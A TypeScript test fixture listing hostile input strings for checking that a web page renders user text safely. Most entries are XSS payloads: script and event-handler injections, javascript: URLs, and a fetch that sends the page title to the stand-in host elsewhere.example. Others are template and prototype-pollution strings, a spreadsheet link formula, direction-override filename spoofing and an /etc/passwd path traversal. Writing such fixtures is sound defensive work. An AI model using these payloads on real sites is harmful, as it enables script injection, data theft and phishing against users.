/** Every element that could come of a text below carries this, so that one look at a page finds it. */
export const MADE = 'made-of-text';
const mark = `class="${MADE}"`;

/** A page that this text could call, and what it would do there: both are seen by the test. */
const CALL = `fetch('http://elsewhere.example/?'+document.title),alert(1)`;

const RIGHT_TO_LEFT = '\u202e';
const ISOLATE = '\u2067';
const ZERO_WIDTH = '\u200b\u200d\u2060\ufeff';

/**
 * Texts that stop being texts where a page is careless: markup, handlers, addresses that run, templates of other programs, marks
 * that turn the direction, and words that no line can hold. What a citizen may write, he may write: none is refused.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script ${mark}>${CALL}</script>`,
  `<ScRiPt ${mark} src=//elsewhere.example/a.js></ScRiPt>`,
  `<script ${mark} type=module>import('//elsewhere.example/a.js')</script>`,
  `</title><script ${mark}>${CALL}</script>`,
  `</textarea><script ${mark}>${CALL}</script>`,
  `</script><img ${mark} src=x onerror=${CALL}>`,
  `--><img ${mark} src=x onerror=${CALL}><!--`,
  `]]><img ${mark} src=x onerror=${CALL}>`,
  `<img ${mark} src=x onerror="${CALL}">`,
  `<img ${mark} src="http://elsewhere.example/pixel.png">`,
  `<img ${mark} srcset="http://elsewhere.example/1x.png 1x">`,
  `<image ${mark} href=http://elsewhere.example/i.png>`,
  `<svg ${mark} onload="${CALL}"></svg>`,
  `<svg ${mark}><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg ${mark}><use href="http://elsewhere.example/#x"></use></svg>`,
  `<math ${mark}><mtext><table><mglyph><style><img src onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<iframe ${mark} src="javascript:${CALL}"></iframe>`,
  `<iframe ${mark} srcdoc="<script>${CALL}</script>"></iframe>`,
  `<object ${mark} data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed ${mark} src="http://elsewhere.example/e.swf">`,
  `<video ${mark}><source onerror="${CALL}"></video>`,
  `<audio ${mark} src=x onerror=${CALL}></audio>`,
  `<details ${mark} open ontoggle=${CALL}>更多</details>`,
  `<input ${mark} autofocus onfocus=${CALL}>`,
  `<select ${mark} autofocus onfocus=${CALL}></select>`,
  `<body ${mark} onload=${CALL}>`,
  `<marquee ${mark} onstart=${CALL}>公告</marquee>`,
  `<style ${mark}>@import 'http://elsewhere.example/s.css';body{display:none}</style>`,
  `<link ${mark} rel=stylesheet href="http://elsewhere.example/s.css">`,
  `<link ${mark} rel=prefetch href="http://elsewhere.example/">`,
  `<meta ${mark} http-equiv=refresh content="0;url=http://elsewhere.example/">`,
  `<base ${mark} href="http://elsewhere.example/">`,
  `<form ${mark} action="http://elsewhere.example/"><button>提交</button></form>`,
  `<a ${mark} href="javascript:${CALL}">查看附件</a>`,
  `<a ${mark} href="jAvAsCrIpT&colon;${CALL}">查看附件</a>`,
  `<a ${mark} href="data:text/html,<script>${CALL}</script>">查看附件</a>`,
  `<a ${mark} href="//elsewhere.example/" ping="//elsewhere.example/">官网</a>`,
  `<div ${mark} style="background:url(http://elsewhere.example/b.png)">`,
  `<div ${mark} style="position:fixed;inset:0;background:#fff">请重新登录</div>`,
  `<template ${mark}><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img ${mark} src=x onerror=${CALL}>">`,
  `<x-y ${mark} onclick=${CALL}>点这里</x-y>`,
  `"><img ${mark} src=x onerror=${CALL}>`,
  `'><img ${mark} src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}" x="`,
  `' autofocus onfocus='${CALL}`,
  '`-alert(1)-`',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://www.example.cn',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;svg onload=alert(1)&#x3e;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)} <%= alert(1) %> [[alert(1)]]',
  '{text} {number} {count} {0}',
  '__proto__[made]=1; constructor.prototype.made=1',
  `=HYPERLINK("http://elsewhere.example/","点这里")`,
  `附件${RIGHT_TO_LEFT}gpj.exe`,
  `${ISOLATE}${RIGHT_TO_LEFT}反转的文字，没有收尾`,
  `补${ZERO_WIDTH}课${ZERO_WIDTH}费`,
  `e${'\u0301'.repeat(200)}`,
  `长${'啊'.repeat(400)}`,
  `word${'w'.repeat(400)}`,
  '๏̯͡๏ 𝕏 👨‍👩‍👧‍👦 🏴‍☠️ ﷽',
  'CON aux nul.txt',
  '../../../../etc/passwd',
];
